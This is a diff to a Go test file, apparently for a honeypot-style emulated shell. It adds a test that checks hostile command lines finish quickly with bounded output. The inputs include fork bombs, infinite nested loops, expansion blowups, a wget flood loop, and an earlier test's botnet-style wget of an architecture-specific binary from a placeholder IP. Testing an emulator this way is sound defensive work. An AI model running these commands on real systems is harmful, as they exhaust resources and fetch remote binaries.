@@ -4,6 +4,7 @@ import (
 	"context"
 	"strings"
 	"testing"
+	"time"
 )
 
 func newTestDevice(t *testing.T, p Profile, lim Limits) *Device {
@@ -179,5 +180,40 @@ func TestURLWithExpansion(t *testing.T) {
 	r := sh.Run("cd /tmp; wget http://192.0.2.7/bins/x.$(uname -m)")
 	if len(r.Downloads) != 1 || r.Downloads[0].URL != "http://192.0.2.7/bins/x.armv5tejl" {
 		t.Fatalf("downloads %+v", r.Downloads)
+	}
+}
+
+// TestHostileLinesBounded: lines built to cost the most with the new
+// features (recursion, nested scripts, pattern expansions, here-documents
+// in loops, floods) each finish quickly with bounded output.
+func TestHostileLinesBounded(t *testing.T) {
+	d := newTestDevice(t, DefaultProfile(), Limits{})
+	long := strings.Repeat("a", 4000)
+	for _, l := range []string{
+		"f() { f; }; f",
+		"f() { f & f; }; f",
+		"g() { sh -c 'g'; g; }; g",
+		`sh -c "sh -c \"sh -c 'sh -c \\\"while :; do :; done\\\"'\""`,
+		"x=" + long + "; y=${x//a/bb}; z=${x%%*a}; echo ${#y}",
+		"x=" + long + "; while :; do y=${x#*a*a*a*a*a*a*a}; done",
+		"while :; do cat <<EOF\n$(echo $(echo x))\nEOF\ndone",
+		"while :; do wget -O /dev/null http://198.51.100.1/$((i=i+1)); done",
+		"echo $((" + strings.Repeat("(", 100) + "1" + strings.Repeat(")", 100) + "))",
+		"yes | awk '{s=s $0} END {print length(s)}'",
+		"yes | sed 's/y/yyyyyyyy/g' | sed 's/y/yyyyyyyy/g' | wc -c",
+	} {
+		sh := d.NewShell(context.Background())
+		start := time.Now()
+		var r Result
+		for _, part := range strings.Split(l, "\n") {
+			r = sh.Run(part)
+		}
+		if took := time.Since(start); took > 3*time.Second {
+			t.Errorf("%.60q took %v", l, took)
+		}
+		if len(r.Output) > maxOutput || len(r.Downloads)+len(r.Floods) > maxDownloads {
+			t.Errorf("%.60q: %d bytes, %d downloads, %d floods", l, len(r.Output), len(r.Downloads), len(r.Floods))
+		}
+		sh.Close()
 	}
 }
